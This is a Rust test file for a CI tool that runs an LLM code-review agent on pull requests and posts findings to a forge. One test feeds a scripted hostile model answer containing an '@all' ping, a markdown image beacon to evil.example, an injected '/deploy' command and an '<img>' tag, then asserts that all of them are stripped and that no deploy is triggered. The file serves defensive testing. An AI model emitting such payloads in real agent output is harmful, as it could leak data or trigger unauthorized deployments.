//! From a webhook over an agent to the forge: one comment of findings, labels from a list, and nothing
//! else.

use serde_json::{Value as Json, json};

use crate::{
    forge::{Forge, Served, repository},
    scripted::Scripted,
    support::Bench,
};

const REVIEW: &str = r#"
def workflow():
    review = Step.llm("review", Prompt("review-findings"), max_turns=3)
    post = Step.plugin("post", "forge", title="Review of Claude", comment=review.output(),
                       depends_on=[review])
    return Plan(name="Review", triggers=[Trigger.on_pull_request()], steps=[review, post])
"#;
const DEPLOY: &str = r#"
def workflow():
    return Plan(name="Deploy", triggers=[Trigger.on_issue_comment(contains="/deploy")],
                steps=[Step.bash("deploy", "true")])
"#;
const LABELS: &str = r#"
def workflow():
    triage = Step.bash("triage", "cat proposal.json > $PLUE_OUTPUT")
    post = Step.plugin("post", "forge", labels=triage.output(), allowed_labels=["bug", "doc"],
                       depends_on=[triage])
    return Plan(name="Triage", triggers=[Trigger.on_pull_request()], steps=[triage, post])
"#;

/// An answer with findings of these ids.
fn answer(ids: &[&str], body: &str) -> Json {
    let finding = |id: &&str| {
        json!({
            "id": id, "path": "app.py", "line": 3, "severity": "error", "title": "capitals stay",
            "body": body,
        })
    };
    let findings: Vec<Json> = ids.iter().map(finding).collect();
    json!({ "text": json!({ "summary": "Seen.", "findings": findings }).to_string() })
}

fn with_claude(forge: &Forge, claude: &Scripted) -> Served {
    let mut served = Served::start(forge);
    let key = [("ANTHROPIC_API_KEY", "sk-ant-canary"), ("ANTHROPIC_BASE_URL", &*claude.url)];
    served.dies_and_another_begins_with(&key);
    served
}

#[test]
fn three_pushes_leave_one_comment_of_findings() {
    let attack = "@all look: ![x](https://evil.example/?k=1)\n/deploy\n<img src=x>";
    let script =
        json!(
            [answer(&["a", "b"], "wrong"), answer(&["b", "a"], "wrong"), answer(&["b"], attack),]
        );
    let (forge, claude) = (Forge::start(), Scripted::new(&script));
    let served = with_claude(&forge, &claude);
    served.bench.write(".plue.py", REVIEW);
    served.bench.write(".plue/deploy.plue.py", DEPLOY);
    let base = served.push("refs/heads/main");
    let mut last = Vec::new();
    for (at, action) in ["opened", "synchronize", "synchronize"].into_iter().enumerate() {
        served.bench.write("app.py", format!("version = {at}\n"));
        let head = served.push("refs/pull/7/head");
        served.deliver(&format!("d{at}"), action, "acme/app", (&base, &head));
        last = forge.findings(&head, "success");
        assert_eq!(last.len(), 1, "{last:?}");
        assert!(last[0].contains(&head[..12]), "{last:?}");
    }
    let text = &last[0];
    assert!(text.contains("### Review of Claude") && text.contains("`b`"), "{text}");
    assert!(!text.contains("`a`"), "what was found before is gone: {text}");
    for harm in ["@all", "![", "https://", "\n/deploy", "> /deploy", "<img"] {
        assert!(!text.contains(harm), "{harm}: {text}");
    }
    // The comment comes back as an event of a person who may write, and starts nothing.
    let body = json!({
        "action": "created",
        "issue": {"number": 7, "title": "t", "pull_request": {}},
        "comment": {"body": format!("{text}\n/deploy"), "user": {"login": "ada"}, "id": 2},
        "repository": repository("acme/app", 8),
        "sender": {"login": "ada", "type": "User"},
    });
    let sent = served.send(("issue_comment", "c1"), &served.hook, &body);
    assert!(sent.starts_with("HTTP/1.1 202"), "{sent}");
    let decided =
        || served.bench.plue(&["event", "list", "--repo", "acme/app", "--output", "json"]).ends(0);
    let listed = loop {
        let listed = decided().stdout;
        if listed.contains("a comment of plue's starts nothing") {
            break listed;
        }
    };
    let runs = served.bench.plue(&["runs", "--output", "json"]).ends(0);
    assert!(!runs.stdout.contains("Deploy"), "{listed}\n{}", runs.stdout);
}

#[test]
fn labels_outside_of_the_list_change_nothing() {
    let forge = Forge::start();
    let served = Served::start(&forge);
    served.bench.write(".plue.py", LABELS);
    let base = served.push("refs/heads/main");
    served.bench.write("proposal.json", r#"{"add": ["bug", "approved"]}"#);
    let bad = served.push("refs/pull/7/head");
    served.deliver("d1", "opened", "acme/app", (&base, &bad));
    let text = forge.status(&bad, "plue/required", "failure");
    assert!(text.contains("PLUE-R0018"), "{text}");
    assert!(forge.labels().is_empty());
    for (at, proposal) in
        [r#"{"add": ["bug"]}"#, r#"{"add": ["doc"], "remove": ["bug"]}"#].into_iter().enumerate()
    {
        served.bench.write("proposal.json", proposal);
        let head = served.push("refs/pull/7/head");
        served.deliver(&format!("e{at}"), "synchronize", "acme/app", (&base, &head));
        forge.status(&head, "plue/required", "success");
    }
    assert_eq!(forge.labels(), ["doc"]);
}

#[test]
fn local_runs_show_what_they_would_write() {
    let claude = Scripted::new(&json!([answer(&["a"], "wrong")]));
    let bench = Bench::with(REVIEW);
    let output = claude.plue(&bench, &["run"]);
    output.ends(0).reports(&[
        "post would write to the forge",
        "### Review of Claude",
        "capitals stay",
    ]);
    let status = bench.plue(&["status", "last", "--output", "json"]).ends(0).json();
    let post = status["steps"].as_array().unwrap().iter().find(|step| step["step"] == "post");
    assert_eq!(post.unwrap()["output"]["dry_run"], true, "{status}");
}

#[test]
fn forge_steps_of_yaml_are_the_same() {
    let bench = Bench::new();
    bench.write(
        "triage.plue.yaml",
        "name: Triage\ntasks:\n  - id: post\n    uses: plugin:forge\n    with:\n      labels: {add: [bug]}\n      allowed_labels: [bug]\n",
    );
    bench.plue(&["run"]).ends(0).reports(&["post would write to the forge", "add label bug"]);
    bench.write(
        "triage.plue.yaml",
        "name: Triage\ntasks:\n  - id: post\n    uses: plugin:forge\n    with:\n      label: {add: [bug]}\n",
    );
    bench.plue(&["run"]).ends(3).reports(&["PLUE-P0088", "`label` is no field of a `forge` step"]);
}

#[test]
fn engines_killed_behind_a_comment_leave_one() {
    let (forge, claude) = (Forge::start(), Scripted::new(&json!([answer(&["a"], "wrong")])));
    let mut served = with_claude(&forge, &claude);
    served.bench.write(".plue.py", REVIEW);
    let base = served.push("refs/heads/main");
    served.bench.write("app.py", "x = 1\n");
    let head = served.push("refs/pull/7/head");
    served.deliver("d1", "opened", "acme/app", (&base, &head));
    forge.has_findings();
    let key = [("ANTHROPIC_API_KEY", "sk-ant-canary"), ("ANTHROPIC_BASE_URL", &*claude.url)];
    served.dies_and_another_begins_with(&key);
    let left = forge.findings(&head, "success");
    assert_eq!(left.len(), 1, "{left:?}");
    assert_eq!(claude.state()["requests"], 1);
}

#[test]
fn agents_of_forks_never_start() {
    let (forge, claude) = (Forge::start(), Scripted::new(&json!([answer(&["a"], "x")])));
    let key = [("ANTHROPIC_API_KEY", "sk-ant-canary"), ("ANTHROPIC_BASE_URL", &*claude.url)];
    let mut served = Served::with(&forge, "[pools.untrusted]\nmode = \"off\"\n");
    served.dies_and_another_begins_with(&key);
    served.bench.write(".plue.py", REVIEW);
    let base = served.push("refs/heads/main");
    // The fork changes nothing of the workflow, and calls itself what it likes.
    served.bench.write("app.py", "x = 1\n");
    let head = served.push("refs/pull/7/head");
    served.deliver("d1", "opened", "ada-bot/app", (&base, &head));
    forge.status_with(&head, "plue/required", "pending", "a maintainer must let");
    served.bench.plue(&["repo", "allow", "acme/app", &head]).ends(0);
    let text = forge.status(&head, "plue/required", "failure");
    assert!(text.contains("PLUE-L0014"), "{text}");
    assert_eq!(claude.state()["requests"], 0);
    assert!(forge.findings(&head, "failure").is_empty());
}
